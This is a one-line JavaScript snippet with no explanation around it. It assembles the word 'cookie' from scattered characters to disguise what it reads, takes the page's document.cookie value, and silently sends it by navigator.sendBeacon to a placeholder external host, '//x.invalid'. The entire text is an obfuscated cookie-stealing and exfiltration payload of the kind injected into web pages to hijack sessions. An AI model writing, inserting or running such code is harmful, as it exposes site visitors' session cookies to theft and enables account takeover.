const z = ['o', 'c', 'k', 'i', 'e']; const v = document[[z[1], z[0], z[0], z[2], z[3], z[4]].join('')]; navigator.sendBeacon('//x.invalid', v);
